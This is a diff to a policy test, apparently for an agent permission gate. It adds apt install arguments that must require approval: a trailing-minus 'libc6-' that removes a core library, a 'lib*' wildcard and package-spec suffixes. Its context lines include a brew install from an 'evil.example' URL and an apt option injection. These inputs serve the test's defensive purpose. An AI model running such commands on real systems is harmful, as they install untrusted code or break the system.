@@ -85,6 +85,10 @@ test_only_system_binaries_by_absolute_path_are_safe if {
 		["/usr/local/bin/brew", "install", "https://evil.example/x.rb"],
 		["/usr/bin/apt", "install", "-o", "APT::x=y", "jq"],
 		["/usr/bin/apt", "install", "http:evil"],
+		["/usr/bin/apt", "install", "libc6-"],
+		["/usr/bin/apt", "install", "jq+"],
+		["/usr/bin/apt", "install", "lib*"],
+		["/usr/bin/apt", "install", "jq=1.6"],
 	] {
 		effect("shell.exec", {"argv": argv}, "L3+") == "require_approval"
 	}
